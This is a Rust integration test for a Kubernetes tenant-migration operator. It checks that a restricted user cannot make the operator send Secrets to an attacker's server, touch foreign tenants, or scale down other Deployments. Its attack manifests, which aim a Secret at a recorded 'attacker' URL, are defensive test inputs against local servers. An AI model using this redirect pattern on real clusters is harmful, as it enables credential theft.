//! Only platform admins decide where data and credentials go. A user who may create
//! TenantMigrations in a namespace but may not read Secrets tries, with her own token
//! against a real API server, to make the operator send a Secret somewhere or touch a
//! tenant that is not hers; every attempt is refused by the rule it breaks, before any
//! store is read, and the config API's token only ever reaches the stack's config URL
//! (the test's API servers record every request they receive). A store answering with a
//! long body leaves only a bounded excerpt, without the URL's credentials, in status
//! and Events.

mod common;

use common::*;
use tenant_migrator_testkit::config_api::sample_config;
use tenant_migrator_testkit::{ConfigApi, KubeApiServer};

const TEAM: &str = "team-a";
const STACK_TOKEN: &str = "st4ck-t0ken";
const TEAM_SECRET: &str = "t3am-s3cret";

fn tm(name: &str, source: &str, target: &str, body: &str) -> String {
    format!(
        "apiVersion: tenancy.dev/v1alpha1\nkind: TenantMigration\nmetadata: {{name: {name}, namespace: {TEAM}}}\n\
         spec:\n  source: {source}\n  target: {target}\n{body}"
    )
}

fn condition(tm: &serde_json::Value, type_: &str) -> (String, String) {
    let c = tm["status"]["conditions"]
        .as_array()
        .and_then(|c| c.iter().find(|c| c["type"] == type_))
        .cloned()
        .unwrap_or_default();
    (
        c["reason"].as_str().unwrap_or_default().to_owned(),
        c["message"].as_str().unwrap_or_default().to_owned(),
    )
}

/// Every Event note about `name`.
fn notes(kube: &KubeApiServer, name: &str) -> Vec<(String, String)> {
    let events: serde_json::Value =
        serde_json::from_str(&ok(kube.kubectl(&["get", "events", "-n", TEAM, "-o", "json"]))).expect("JSON");
    events["items"]
        .as_array()
        .into_iter()
        .flatten()
        .filter(|e| e["involvedObject"]["name"] == name)
        .map(|e| {
            (
                e["reason"].as_str().unwrap_or_default().to_owned(),
                e["note"]
                    .as_str()
                    .or(e["message"].as_str())
                    .unwrap_or_default()
                    .to_owned(),
            )
        })
        .collect()
}

/// A ServiceAccount of `TEAM` that may create and read TenantMigrations there, and
/// nothing else; its bearer token.
fn migration_author(kube: &KubeApiServer) -> String {
    ok(kube.kubectl(&["create", "serviceaccount", "alice", "-n", TEAM]));
    ok(kube.kubectl(&[
        "create",
        "role",
        "tm-author",
        "-n",
        TEAM,
        "--verb=create,get,list,watch,patch",
        "--resource=tenantmigrations.tenancy.dev",
    ]));
    ok(kube.kubectl(&[
        "create",
        "rolebinding",
        "tm-author",
        "-n",
        TEAM,
        "--role=tm-author",
        &format!("--serviceaccount={TEAM}:alice"),
    ]));
    let alice = format!("system:serviceaccount:{TEAM}:alice");
    for (verb, resource, ns, want) in [
        ("create", "tenantmigrations.tenancy.dev", TEAM, "yes"),
        ("get", "secrets", TEAM, "no"),
        ("get", "secrets", OPERATOR_NS, "no"),
        ("create", "ragstacks.tenancy.dev", "", "no"),
    ] {
        assert_eq!(
            can_i(kube, &alice, verb, resource, ns),
            want,
            "alice {verb} {resource} {ns}"
        );
    }
    ok(kube.kubectl(&["create", "token", "alice", "-n", TEAM]))
        .trim()
        .to_owned()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_migration_author_cannot_send_a_secret_anywhere_or_touch_another_tenant() {
    let kube = tokio::task::block_in_place(|| kube_with_crd(TEAM));
    ok(kube.kubectl(&["create", "namespace", "team-b"]));
    let token = tokio::task::block_in_place(|| migration_author(&kube));

    // The platform: a config API that wants the stack's token, Redis, and an attacker's
    // server that records whatever reaches it.
    let (redis, loaded) = loaded_redis(0.02);
    let before = snapshot(&redis);
    let api = ConfigApi::start(0, Some(STACK_TOKEN)).await.expect("config API");
    api.insert(SOURCE, sample_config(SOURCE));
    let attacker = ConfigApi::start(0, None).await.expect("attacker's server");
    let noisy = ConfigApi::start(0, None).await.expect("noisy API");
    let body = format!("BODY-START {} BODY-END", "x".repeat(200_000));
    noisy.answer_every_request(500, body);
    let noisy_url = noisy.url().replace("http://", "http://agent:hunter2@");

    // What admins set up: the stack's Secret in the operator's namespace, the stacks;
    // and a Secret of the team that alice may not read.
    stack_secret(&kube, "rag-api", &[("token", STACK_TOKEN)]);
    ok(kube.kubectl(&[
        "create",
        "secret",
        "generic",
        "team-secret",
        "-n",
        TEAM,
        &format!("--from-literal=token={TEAM_SECRET}"),
    ]));
    let access = format!("access: [{{namespaces: [{TEAM}], tenants: [{SOURCE}, 'tenant_*']}}]");
    apply_ok(
        &kube,
        &format!(
            "apiVersion: tenancy.dev/v1alpha1\nkind: RagStack\nmetadata: {{name: prod}}\nspec:\n  \
             config: {{url: '{}', tokenSecretRef: {{name: rag-api, key: token}}}}\n  \
             redis: {{url: '{}'}}\n  {access}\n\
             ---\napiVersion: tenancy.dev/v1alpha1\nkind: RagStack\nmetadata: {{name: other}}\nspec:\n  \
             config: {{url: '{}', tokenSecretRef: {{name: rag-api, key: token}}}}\n  \
             access: [{{namespaces: [team-b], tenants: ['*']}}]\n\
             ---\napiVersion: tenancy.dev/v1alpha1\nkind: RagStack\nmetadata: {{name: noisy}}\nspec:\n  \
             config: {{url: '{}'}}\n  {access}\n\
             ---\napiVersion: tenancy.dev/v1alpha1\nkind: RagStack\nmetadata: {{name: noisy-creds}}\nspec:\n  \
             config: {{url: '{noisy_url}'}}\n  {access}\n",
            api.url(),
            redis.url(),
            api.url(),
            noisy.url(),
        ),
    );

    let (dir, kubeconfig) = controller_dir(&kube, "stack-security", TEAM, None);
    let log = dir.join("controller.log");
    let port = tenant_migrator_testkit::free_port().expect("port");
    let controller = start_controller_in(&format!("{TEAM},team-b"), &kubeconfig, &log, port);

    let off = "  redis: {enabled: false}\n  qdrant: {enabled: false}\n  memgraph: {enabled: false}\n";
    let only_redis = "  config: {enabled: false}\n  qdrant: {enabled: false}\n  memgraph: {enabled: false}\n";
    let attacks = [
        (
            // Inline endpoints: the team's Secret sent to the attacker as a bearer token.
            "inline-attack",
            tm(
                "inline-attack",
                SOURCE,
                TARGET,
                &format!(
                    "  config: {{url: '{}', tokenSecretRef: {{name: team-secret, key: token}}}}\n{off}",
                    attacker.url()
                ),
            ),
            "InlineEndpointsRefused",
            "spec.stackRef is not set",
        ),
        (
            // The stack's Secret, aimed at the attacker's URL.
            "redirect-attack",
            tm(
                "redirect-attack",
                SOURCE,
                TARGET,
                &format!(
                    "  stackRef: {{name: prod}}\n  config: {{url: '{}'}}\n{off}",
                    attacker.url()
                ),
            ),
            "InlineEndpointsRefused",
            "spec.config.url is set",
        ),
        (
            "someone-elses-stack",
            tm(
                "someone-elses-stack",
                SOURCE,
                TARGET,
                &format!("  stackRef: {{name: other}}\n{off}"),
            ),
            "NamespaceNotAllowed",
            "RagStack \"other\" does not allow namespace \"team-a\"",
        ),
        (
            "someone-elses-tenant",
            tm(
                "someone-elses-tenant",
                "globex",
                TARGET,
                &format!("  stackRef: {{name: prod}}\n{off}"),
            ),
            "TenantNotAllowed",
            "tenant \"globex\"",
        ),
        (
            "overwrite-a-foreign-tenant",
            tm(
                "overwrite-a-foreign-tenant",
                SOURCE,
                "globex_data",
                &format!("  stackRef: {{name: prod}}\n{off}"),
            ),
            "TenantNotAllowed",
            "tenant \"globex_data\"",
        ),
        (
            "scale-down-billing",
            tm(
                "scale-down-billing",
                SOURCE,
                TARGET,
                &format!("  stackRef: {{name: prod}}\n  quiesce: [{{kind: Deployment, name: billing}}]\n{off}"),
            ),
            "QuiesceNotAllowed",
            "billing",
        ),
        (
            "no-such-stack",
            tm(
                "no-such-stack",
                SOURCE,
                TARGET,
                &format!("  stackRef: {{name: nope}}\n{off}"),
            ),
            "StackNotFound",
            "RagStack \"nope\" does not exist",
        ),
    ];
    for (_, manifest, _, _) in &attacks {
        let out = kube.apply_as(&token, manifest).expect("kubectl");
        assert!(out.status.success(), "alice may create migrations: {}", text(&out));
    }
    // The legitimate one, on the stack, inside the team's tenants.
    let legit = tm(
        "legit",
        SOURCE,
        TARGET,
        "  mode: Copy\n  stackRef: {name: prod}\n  qdrant: {enabled: false}\n  memgraph: {enabled: false}\n",
    );
    ok(kube.apply_as(&token, &legit));
    let loud = tm(
        "loud",
        SOURCE,
        "tenant_loud",
        &format!("  stackRef: {{name: noisy}}\n  backoffLimit: 0\n{off}"),
    );
    ok(kube.apply_as(&token, &loud));
    let creds = tm(
        "loud-creds",
        SOURCE,
        "tenant_creds",
        &format!("  stackRef: {{name: noisy-creds}}\n{off}"),
    );
    ok(kube.apply_as(&token, &creds));

    for (name, _, reason, says) in &attacks {
        let got = tokio::task::block_in_place(|| wait_for_tm(&kube, TEAM, name, finished));
        assert_eq!(got["status"]["phase"], "Failed", "{got:#}");
        let (r, message) = condition(&got, "Ready");
        assert_eq!(&r, reason, "{name}: {got:#}");
        assert!(message.contains(says), "{name}: {message}");
        assert!(
            notes(&kube, name).iter().any(|(r, _)| r == "MigrationRefused"),
            "{name}: no MigrationRefused Event"
        );
        // Refused before anything ran: no phase started.
        for store in ["config", "redis", "qdrant", "memgraph"] {
            let phase = &got["status"]["phases"][store];
            assert!(
                (phase["state"].is_null() || phase["state"] == "Pending") && phase["startTime"].is_null(),
                "{name}: {store} ran: {got:#}"
            );
        }
    }
    let done = tokio::task::block_in_place(|| wait_for_tm(&kube, TEAM, "legit", finished));
    let logs = std::fs::read_to_string(&log).unwrap_or_default();
    assert_eq!(done["status"]["phase"], "Succeeded", "{done:#}\n{logs}");
    assert_eq!(done["status"]["stack"], "prod", "{done:#}");
    assert_eq!(
        done["status"]["tenants"],
        serde_json::json!([SOURCE, TARGET]),
        "{done:#}"
    );
    assert_eq!(
        done["status"]["phases"]["redis"]["done"], loaded.tenant_keys,
        "{done:#}"
    );
    assert_migrated(&before, &snapshot(&redis), false);
    let started = notes(&kube, "legit");
    assert!(
        started
            .iter()
            .any(|(r, n)| r == "MigrationStarted" && n.contains("RagStack prod")),
        "{started:?}"
    );

    // Where the credentials went: the stack's token to the stack's config URL, and
    // nothing at all to the attacker.
    let received = api.received();
    assert!(!received.is_empty());
    for r in &received {
        assert_eq!(
            r.authorization.as_deref(),
            Some(&*format!("Bearer {STACK_TOKEN}")),
            "{r:?}"
        );
    }
    assert_eq!(attacker.received(), Vec::new(), "the attacker's server was called");
    for r in noisy.received() {
        let auth = r.authorization.unwrap_or_default();
        assert!(!auth.contains(STACK_TOKEN) && !auth.contains(TEAM_SECRET), "{auth}");
    }

    // A store answering with 200 kB: a bounded excerpt, no URL credentials, anywhere.
    // And a URL's credentials (the config store refuses them, naming the URL) never
    // show in status or Events.
    for (name, shows) in [("loud", "BODY-START"), ("loud-creds", "http://***@127.0.0.1")] {
        let failed = tokio::task::block_in_place(|| wait_for_tm(&kube, TEAM, name, finished));
        assert_eq!(failed["status"]["phase"], "Failed", "{failed:#}");
        let mut messages: Vec<String> = failed["status"]["conditions"]
            .as_array()
            .into_iter()
            .flatten()
            .filter_map(|c| c["message"].as_str().map(str::to_owned))
            .collect();
        messages.extend(
            failed["status"]["phases"]["config"]["message"]
                .as_str()
                .map(str::to_owned),
        );
        let events = notes(&kube, name);
        assert!(events.iter().any(|(r, _)| r == "MigrationFailed"), "{events:?}");
        messages.extend(events.into_iter().map(|(_, n)| n));
        assert!(messages.iter().any(|m| m.contains(shows)), "{name}: {messages:?}");
        for m in &messages {
            assert!(!m.contains("BODY-END") && !m.contains("hunter2"), "{m}");
            assert!(m.chars().count() <= 1100, "{} characters: {m}", m.chars().count());
        }
        assert!(!failed.to_string().contains("hunter2"), "{failed:#}");
    }

    // Nothing leaked: no credential in status, Events or the log.
    let everything = format!(
        "{}{}{}",
        ok(kube.kubectl(&["get", "tm", "-n", TEAM, "-o", "json"])),
        ok(kube.kubectl(&["get", "events", "-n", TEAM, "-o", "json"])),
        logs
    );
    for secret in [STACK_TOKEN, TEAM_SECRET] {
        assert!(!everything.contains(secret), "{secret} leaked");
    }

    // A single-team cluster opts in to inline endpoints: the same controller, started
    // with --allow-inline-endpoints, admits an inline migration it refused before.
    for (name, ..) in &attacks {
        ok(kube.kubectl(&["delete", "tm", name, "-n", TEAM]));
    }
    let inline = tm(
        "inline-ok",
        SOURCE,
        "tenant_c",
        &format!("  mode: Copy\n  redis: {{url: '{}'}}\n{only_redis}", redis.url()),
    );
    ok(kube.apply_as(&token, &inline));
    let refused = tokio::task::block_in_place(|| wait_for_tm(&kube, TEAM, "inline-ok", finished));
    assert_eq!(condition(&refused, "Ready").0, "InlineEndpointsRefused", "{refused:#}");
    drop(controller);
    let _opted_in = ControllerProcess(
        std::process::Command::new(bin())
            .args(["controller", "--namespace", TEAM, "--allow-inline-endpoints"])
            .args(["--metrics-addr", &format!("127.0.0.1:{port}")])
            .env("KUBECONFIG", &kubeconfig)
            .stdout(std::fs::File::create(dir.join("inline.log")).expect("log"))
            .stderr(std::fs::File::create(dir.join("inline.err")).expect("log"))
            .spawn()
            .expect("controller"),
    );
    let ran =
        tokio::task::block_in_place(|| wait_for_tm(&kube, TEAM, "inline-ok", |t| t["status"]["phase"] == "Succeeded"));
    assert_eq!(ran["status"]["stack"], "inline", "{ran:#}");
    assert!(
        snapshot(&redis).keys().any(|k| k.starts_with(b"tenant_c_")),
        "the inline migration copied nothing"
    );
}
